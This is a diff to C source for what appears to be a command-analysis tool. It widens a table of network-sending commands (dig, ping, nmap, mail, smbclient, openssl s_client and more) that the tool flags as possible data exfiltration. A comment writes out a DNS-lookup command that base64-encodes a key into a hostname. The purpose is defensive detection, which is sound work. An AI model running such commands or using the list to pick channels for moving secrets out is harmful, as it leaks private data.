@@ -233,7 +233,17 @@ h_socat(struct eval *ev, int k, const struct word *av, size_t ac)
         return 0;
 }
 
-/* Other programs that only move data over the network. */
+/* openssl s_client / s_time: a TLS connection that sends what it reads (stdin). */
+static int
+h_openssl(struct eval *ev, int k, const struct word *av, size_t ac)
+{
+        if (ac > 1 && (!strcmp(av[1].s, "s_client") || !strcmp(av[1].s, "s_time")))
+                ev->units[k].net = true;
+        return 0;
+}
+
+/* Other programs that move data over the network: a name they look up (dig, host, ping)
+ * carries data too (dig $(base64 key | head -c 60).example.com). */
 static int
 h_netsend(struct eval *ev, int k, const struct word *av, size_t ac)
 {
@@ -682,12 +692,23 @@ net_exfil_pass(struct eval *ev)
 }
 
 static const struct cmd cmds[] = {
-        {"aria2c", h_netsend}, {"axel", h_netsend},  {"curl", h_curl},     {"docker", h_docker},
-        {"ftp", h_netsend},    {"http", h_netsend},  {"https", h_netsend}, {"kubectl", h_kubectl},
-        {"lftp", h_netsend},   {"nc", h_nc},         {"ncat", h_nc},       {"nerdctl", h_docker},
-        {"netcat", h_nc},      {"podman", h_docker}, {"rsync", h_rsync},   {"scp", h_scp},
-        {"sftp", h_scp},       {"socat", h_socat},   {"ssh", h_ssh},       {"telnet", h_netsend},
-        {"tftp", h_netsend},   {"wget", h_wget},     {"xh", h_netsend},
+        {"aria2c", h_netsend},    {"axel", h_netsend},       {"curl", h_curl},
+        {"curlie", h_netsend},    {"dig", h_netsend},        {"docker", h_docker},
+        {"drill", h_netsend},     {"ftp", h_netsend},        {"grpcurl", h_netsend},
+        {"host", h_netsend},      {"hping3", h_netsend},     {"http", h_netsend},
+        {"https", h_netsend},     {"kubectl", h_kubectl},    {"lftp", h_netsend},
+        {"mail", h_netsend},      {"mailx", h_netsend},      {"mosquitto_pub", h_netsend},
+        {"mtr", h_netsend},       {"mutt", h_netsend},       {"nc", h_nc},
+        {"ncat", h_nc},           {"nerdctl", h_docker},     {"netcat", h_nc},
+        {"nmap", h_netsend},      {"nping", h_netsend},      {"nslookup", h_netsend},
+        {"openssl", h_openssl},   {"ping", h_netsend},       {"ping6", h_netsend},
+        {"podman", h_docker},     {"redis-cli", h_netsend},  {"rsync", h_rsync},
+        {"scp", h_scp},           {"sendmail", h_netsend},   {"sftp", h_scp},
+        {"smbclient", h_netsend}, {"socat", h_socat},        {"ssh", h_ssh},
+        {"swaks", h_netsend},     {"telnet", h_netsend},     {"tftp", h_netsend},
+        {"tracepath", h_netsend}, {"traceroute", h_netsend}, {"websocat", h_netsend},
+        {"wget", h_wget},         {"whois", h_netsend},      {"wscat", h_netsend},
+        {"xh", h_netsend},
 };
 
 const struct cmd_table net_cmds = {cmds, ARRAY_SIZE(cmds)};
